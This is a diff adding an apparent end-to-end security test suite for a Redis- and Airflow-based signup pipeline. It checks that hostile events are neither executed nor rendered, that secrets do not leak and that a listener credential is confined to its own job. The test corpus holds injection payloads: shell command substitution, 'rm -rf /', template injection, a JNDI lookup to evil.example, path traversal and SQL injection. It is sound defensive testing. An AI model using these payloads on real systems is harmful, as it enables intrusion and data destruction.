@@ -1,0 +1,360 @@
+"""Security controls on the real path (docs/security.md): real Redis with ACL users, a real
+realtime Airflow with the FAB auth manager, a real listener process.
+
+One stack serves every test here: the listener and the DAG's tasks connect to Redis as
+their own ACL users (known passwords), a hostile corpus of signups goes through, and then
+- the listener's Airflow credential is refused (403) everywhere but its own job,
+- every hostile event was decided (content kept verbatim, nothing rendered or run) or
+  dead-lettered with its reason,
+- no secret appears in any log, metrics page, decision, dead letter or command line.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import secrets
+import tempfile
+import time
+import uuid
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import httpx
+import pytest
+import redis
+
+from onboarding.publisher import new_signup, publish_raw
+from onboarding.redis_acl import apply
+from onboarding.settings import StreamSettings
+from tests.e2e.conftest import E2E_REDIS_URL, RealtimeStack, running_realtime
+
+pytestmark = pytest.mark.e2e
+
+# A template that renders to a value nobody sends: if it appears anywhere, it was rendered.
+RENDERED = "secrendered4242"
+TEMPLATE = "{{ 'secrendered' ~ 4242 }}"
+# A file a shell command in an event would create; it must never exist.
+CANARY = Path(tempfile.gettempdir()) / f"sec-canary-{uuid.uuid4().hex[:10]}"
+
+KNOWN_REASONS = {"invalid_value", "wrong_type", "invalid_timestamp", "out_of_range", "not_json", "unknown_field"}
+
+
+def hostile_events() -> list[tuple[str, dict | str]]:
+    """(expected outcome, event): "decided" keeps the text as data, "dead" is refused."""
+    out: list[tuple[str, dict | str]] = []
+    # user_id is free text (no control characters, 1..128 characters): decided, verbatim.
+    for user_id in (
+        f"$(touch {CANARY})",
+        f"`touch {CANARY}`; touch {CANARY} && echo",
+        TEMPLATE,
+        "{% for i in range(3) %}{{ i }}{% endfor %}{{ params }}{{ conf }}{{ var.value.x }}",
+        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+        "${jndi:ldap://evil.example/a} %s%n %x",
+        "../../../../../etc/passwd",
+        "..\\..\\windows\\system32\\cmd.exe",
+        "\u202eevil\u202c \u0644\u0627 \U0001f600 \ufeff Z\u0351\u0352\u0353",
+        "\U0001f600" * 128,
+        "x" * 128,
+        "'; DROP TABLE dag_run; --",
+    ):
+        out.append(("decided", new_signup(user_id=user_id)))
+    # event_id is restricted to [A-Za-z0-9._:~+-]: odd but allowed ids are decided ...
+    out.append(("decided", new_signup(event_id="e" * 128)))
+    out.append(("decided", new_signup(event_id=f"e.~+-:_{uuid.uuid4().hex[:8]}")))
+    # ... hostile ones are refused before they become a run id.
+    for event_id in (
+        f"$(touch {CANARY})",
+        "../../etc/passwd",
+        TEMPLATE,
+        "evt;rm -rf /",
+        "évt-unicode",
+        "e" * 129,
+    ):
+        out.append(("dead", new_signup(event_id=event_id)))
+    # Application fields are enums, numbers and booleans: hostile text is refused.
+    for field, value in (
+        ("purpose", TEMPLATE),
+        ("housing", f"$(touch {CANARY})"),
+        ("job", "../../etc/passwd"),
+        ("credit_amount", "1e9999"),
+        ("has_telephone", "{{ True }}"),
+    ):
+        event = new_signup()
+        event["application"][field] = value
+        out.append(("dead", event))
+    bad_time = new_signup()
+    bad_time["occurred_at"] = TEMPLATE
+    out.append(("dead", bad_time))
+    control = new_signup()
+    control["user_id"] = "bell\x07"
+    out.append(("dead", control))
+    extra = new_signup()
+    extra["__import__"] = "os"
+    out.append(("dead", extra))
+    return out
+
+
+@dataclass
+class Secured:
+    stack: RealtimeStack
+    metrics_port: int
+    secrets: dict[str, str]
+    expected: dict[str, str]  # event_id -> "decided" | "dead"
+    events: dict[str, dict]
+    decisions: dict[str, dict]
+    dead: list[dict[str, str]]
+
+
+def _redis_url(user: str, password: str) -> str:
+    parsed = redis.connection.parse_url(E2E_REDIS_URL)
+    host, port, db = parsed.get("host", "127.0.0.1"), parsed.get("port", 6379), parsed.get("db", 0)
+    return f"redis://{user}:{password}@{host}:{port}/{db}"
+
+
+@pytest.fixture(scope="module")
+def secured(
+    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, trained_model_dir: Path
+) -> Iterator[Secured]:
+    prefix = f"sec-test-e2e-{os.getpid()}-"
+    passwords = {role: f"redis-{role}-{secrets.token_hex(12)}" for role in ("listener", "publisher")}
+    name, db = "sec", "sqlite"
+    streams = StreamSettings(
+        redis_url=E2E_REDIS_URL,
+        signups_stream=f"{name}-{db}:signups",
+        decisions_stream=f"{name}-{db}:decisions",
+        dead_letter_stream=f"{name}-{db}:signups:dead",
+    )
+    admin = redis.Redis.from_url(E2E_REDIS_URL)
+    try:
+        admin.ping()
+    except redis.RedisError:
+        from tests.conftest import require
+
+        require(False, f"Redis at {E2E_REDIS_URL}")
+    environ = {f"REDIS_ACL_PASSWORD_{role.upper()}": pw for role, pw in passwords.items()}
+    users = apply(admin, streams, environ, user_prefix=prefix)
+    home = tmp_path_factory.mktemp("realtime-sec")
+    try:
+        task_url = _redis_url(f"{prefix}publisher", passwords["publisher"])
+        with running_realtime(db, home, trained_model_dir, request.session, name, task_redis_url=task_url) as stack:
+            assert stack.streams == streams
+            _process, port = stack.start_listener(REDIS_URL=_redis_url(f"{prefix}listener", passwords["listener"]))
+            values = json.loads((home / "secrets.json").read_text())
+            known = {
+                "redis listener password": passwords["listener"],
+                "redis publisher password": passwords["publisher"],
+                "airflow admin password": values["admin_password"],
+                "airflow listener password": values["listener_password"],
+                "airflow jwt secret": values["jwt_secret"],
+                "airflow api secret key": values["api_secret_key"],
+            }
+            corpus = hostile_events()
+            expected: dict[str, str] = {}
+            events: dict[str, dict] = {}
+            for outcome, event in corpus:
+                assert isinstance(event, dict)
+                expected[event["event_id"]] = outcome
+                events[event["event_id"]] = event
+                publish_raw(admin, streams.signups_stream, json.dumps(event, ensure_ascii=False))
+            decisions, dead = _settle(stack, expected, timeout_s=420)
+            yield Secured(stack, port, known, expected, events, decisions, dead)
+    finally:
+        admin.execute_command("ACL", "DELUSER", *users)
+        admin.close()
+
+
+def _settle(stack: RealtimeStack, expected: dict[str, str], timeout_s: float) -> tuple[dict, list]:
+    """Wait until every event has a decision or a dead letter (or time out)."""
+    deadline = time.monotonic() + timeout_s
+    while True:
+        decisions = {}
+        for _id, fields in stack.redis.xrange(stack.streams.decisions_stream):
+            payload = json.loads(fields[b"payload"])
+            decisions[payload["event_id"]] = payload
+        dead = [
+            {k.decode(): v.decode("utf-8", errors="replace") for k, v in fields.items()}
+            for _id, fields in stack.redis.xrange(stack.streams.dead_letter_stream)
+        ]
+        settled = len(decisions) + len(dead)
+        if settled >= len(expected) or time.monotonic() > deadline:
+            return decisions, dead
+        time.sleep(1)
+
+
+def test_every_hostile_event_is_decided_verbatim_or_dead_lettered_with_its_reason(secured: Secured) -> None:
+    dead_by_event: dict[str, dict[str, str]] = {}
+    for letter in secured.dead:
+        try:
+            original = json.loads(letter["original.payload"])
+        except ValueError:
+            continue
+        dead_by_event[original.get("event_id")] = letter
+    for event_id, outcome in secured.expected.items():
+        if outcome == "decided":
+            assert event_id in secured.decisions, f"no decision for {event_id[:40]!r}"
+            decision = secured.decisions[event_id]
+            # The hostile text travelled as data: byte for byte, not rendered, not interpreted.
+            assert decision["user_id"] == secured.events[event_id]["user_id"]
+            assert decision["decision"] in ("approve", "review", "decline")
+            assert decision["error"] is None
+        else:
+            assert event_id not in secured.decisions
+            assert event_id in dead_by_event, f"{event_id[:40]!r} was neither decided nor dead-lettered"
+            assert dead_by_event[event_id]["reason"] in KNOWN_REASONS, dead_by_event[event_id]
+            assert dead_by_event[event_id]["detail"]
+    assert len(secured.dead) == sum(1 for o in secured.expected.values() if o == "dead")
+
+
+def test_nothing_the_events_carried_was_executed_or_rendered(secured: Secured) -> None:
+    assert not CANARY.exists(), "a shell ran a command from an event"
+    stack = secured.stack
+    headers = stack.admin_headers()
+    api = stack.instance.spec.api_url
+    template_runs = [
+        f"signup__{event_id}"
+        for event_id, event in secured.events.items()
+        if secured.expected[event_id] == "decided" and "{{" in event["user_id"]
+    ]
+    assert template_runs
+    for run_id in template_runs:
+        run = httpx.get(f"{api}/api/v2/dags/onboarding/dagRuns/{run_id}", headers=headers, timeout=30)
+        run.raise_for_status()
+        assert "{{" in run.json()["conf"]["user_id"], "the conf keeps the template as text"
+        tis = httpx.get(f"{api}/api/v2/dags/onboarding/dagRuns/{run_id}/taskInstances", headers=headers, timeout=30)
+        tis.raise_for_status()
+        for ti in tis.json()["task_instances"]:
+            assert RENDERED not in json.dumps(ti.get("rendered_fields")), ti["task_id"]
+    everything = _all_output(secured)
+    assert RENDERED not in everything, "a template from an event was rendered somewhere"
+    assert "0 1 2" not in json.dumps(secured.decisions)
+
+
+def _all_output(secured: Secured) -> str:
+    """Every output the stack produced: logs of all processes (task logs included), the
+    listener's metrics and health pages, decisions and dead letters."""
+    parts = []
+    for path in secured.stack.home.rglob("*"):
+        if path.is_file() and path.suffix in (".log", ".json", ".txt", "") and path.name != "secrets.json":
+            if path.name in ("passwords.json", "listener.password", "airflow.cfg", "webserver_config.py"):
+                continue  # the secrets' own 0600 files
+            parts.append(path.read_text(errors="replace"))
+    for page in ("metrics", "healthz"):
+        parts.append(httpx.get(f"http://127.0.0.1:{secured.metrics_port}/{page}", timeout=10).text)
+    scheduler = secured.stack.instance.spec.scheduler_health_port
+    parts.append(httpx.get(f"http://127.0.0.1:{scheduler}/health", timeout=10).text)
+    parts.append(json.dumps(secured.decisions))
+    parts.append(json.dumps(secured.dead))
+    return "\n".join(parts)
+
+
+def test_no_secret_appears_in_any_output_or_command_line(secured: Secured) -> None:
+    everything = _all_output(secured)
+    assert len(everything) > 10_000, "the outputs were actually collected"
+    for what, value in secured.secrets.items():
+        assert value not in everything, f"the {what} appears in an output"
+    for process in [*secured.stack.listeners, *secured.stack.instance.processes()]:
+        pid = process.pid()
+        if pid is None:
+            continue
+        cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace")
+        for what, value in secured.secrets.items():
+            assert value not in cmdline, f"the {what} is on the command line of {process.name}"
+
+
+def test_secret_files_are_private_and_no_default_password_works(secured: Secured) -> None:
+    home = secured.stack.home
+    for name in ("secrets.json", "passwords.json", "listener.password"):
+        assert (home / name).stat().st_mode & 0o077 == 0, f"{name} is readable by others"
+    api = secured.stack.instance.spec.api_url
+    for username, password in (("admin", "admin"), ("listener", "user"), ("admin", ""), ("listener", "listener")):
+        response = httpx.post(f"{api}/auth/token", json={"username": username, "password": password}, timeout=30)
+        assert response.status_code in (400, 401, 403, 422), (username, response.status_code)
+    assert secured.secrets["airflow admin password"] not in ("admin", "airflow")
+
+
+def test_components_share_one_jwt_secret_and_the_api_listens_on_loopback(secured: Secured) -> None:
+    import jwt
+
+    secret = secured.secrets["airflow jwt secret"]
+    api = secured.stack.instance.spec.api_url
+    password = secured.stack.instance.listener_password_file.read_text().strip()
+    token = httpx.post(f"{api}/auth/token", json={"username": "listener", "password": password}, timeout=30)
+    token.raise_for_status()
+    # The api-server signs with the configured secret (a random per-process key would fail here)...
+    claims = jwt.decode(
+        token.json()["access_token"], secret, algorithms=["HS512", "HS256"], options={"verify_aud": False}
+    )
+    assert claims["exp"] - claims["iat"] <= 3600, "API tokens live an hour at most"
+    # ... and tasks, which authenticate to the api-server's execution API with tokens the
+    # scheduler signs, ran to their decisions: the scheduler holds the same secret.
+    assert secured.decisions
+    port = secured.stack.instance.spec.api_port
+    listening = set()
+    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
+        local, state = line.split()[1], line.split()[3]
+        address, hex_port = local.split(":")
+        if int(hex_port, 16) == port and state == "0A":  # LISTEN
+            listening.add(address)
+    assert listening == {"0100007F"}, f"the API listens on {listening}, not only 127.0.0.1"
+
+
+PROBES: list[tuple[str, str, dict | None]] = [
+    ("POST", "/api/v2/dags/other/dagRuns", {"logical_date": None}),
+    ("GET", "/api/v2/dags/other/dagRuns", None),
+    ("GET", "/api/v2/dags/other", None),
+    ("GET", "/api/v2/dags/~/dagRuns", None),
+    ("PATCH", "/api/v2/dags/onboarding", {"is_paused": True}),
+    ("DELETE", "/api/v2/dags/onboarding", None),
+    ("DELETE", "/api/v2/dags/onboarding/dagRuns/{run_id}", None),
+    ("PATCH", "/api/v2/dags/onboarding/dagRuns/{run_id}", {"state": "failed"}),
+    ("POST", "/api/v2/dags/onboarding/dagRuns/{run_id}/clear", {"dry_run": True}),
+    ("GET", "/api/v2/dags/onboarding/dagRuns/{run_id}/taskInstances", None),
+    ("GET", "/api/v2/dags/onboarding/dagRuns/{run_id}/taskInstances/enrich/logs/1", None),
+    ("GET", "/api/v2/dags/onboarding/dagRuns/{run_id}/taskInstances/enrich/xcomEntries", None),
+    ("GET", "/api/v2/dagSources/onboarding", None),
+    ("GET", "/api/v2/variables", None),
+    ("POST", "/api/v2/variables", {"key": "x", "value": "y"}),
+    ("GET", "/api/v2/connections", None),
+    ("POST", "/api/v2/connections", {"connection_id": "x", "conn_type": "http"}),
+    ("GET", "/api/v2/config", None),
+    ("GET", "/api/v2/pools", None),
+    ("POST", "/api/v2/pools", {"name": "x", "slots": 1}),
+    ("GET", "/api/v2/importErrors", None),
+    ("GET", "/api/v2/eventLogs", None),
+    ("GET", "/api/v2/assets", None),
+    ("GET", "/api/v2/jobs", None),
+    ("GET", "/api/v2/providers", None),
+    ("GET", "/api/v2/plugins", None),
+    ("GET", "/api/v2/dagWarnings", None),
+    ("GET", "/auth/fab/v1/users", None),
+    ("POST", "/auth/fab/v1/users", {"username": "x", "password": "x", "email": "x@x", "roles": []}),
+    ("GET", "/auth/fab/v1/roles", None),
+]
+
+
+def test_listener_credential_is_refused_everywhere_else(secured: Secured) -> None:
+    """The done-criterion of issue 9: the listener's credential triggers and reads runs of
+    `onboarding`, and gets 403 on every other DAG and endpoint it tries."""
+    api = secured.stack.instance.spec.api_url
+    password = secured.stack.instance.listener_password_file.read_text().strip()
+    token = httpx.post(f"{api}/auth/token", json={"username": "listener", "password": password}, timeout=30)
+    token.raise_for_status()
+    headers = {"Authorization": f"Bearer {token.json()['access_token']}"}
+    run_id = next(d["run_id"] for d in secured.decisions.values())
+    # Its job: read the DAG and its runs.
+    for path in ("/api/v2/dags/onboarding", f"/api/v2/dags/onboarding/dagRuns/{run_id}"):
+        assert httpx.get(f"{api}{path}", headers=headers, timeout=30).status_code == 200, path
+    # (Triggering is proven by every decision above: the listener created those runs.)
+    refused = {}
+    for method, path, body in PROBES:
+        url = f"{api}{path.format(run_id=run_id)}"
+        refused[f"{method} {path}"] = httpx.request(method, url, headers=headers, json=body, timeout=30).status_code
+    assert refused == {probe: 403 for probe in refused}
+    dag = httpx.get(f"{api}/api/v2/dags/onboarding", headers=headers, timeout=30).json()
+    assert dag["is_paused"] is False
+    # The admin can do what the listener cannot (the probes are real endpoints).
+    admin = secured.stack.admin_headers()
+    assert httpx.get(f"{api}/api/v2/pools", headers=admin, timeout=30).status_code == 200
+    assert httpx.get(f"{api}/api/v2/dags/onboarding/dagRuns/{run_id}/taskInstances", headers=admin).status_code == 200
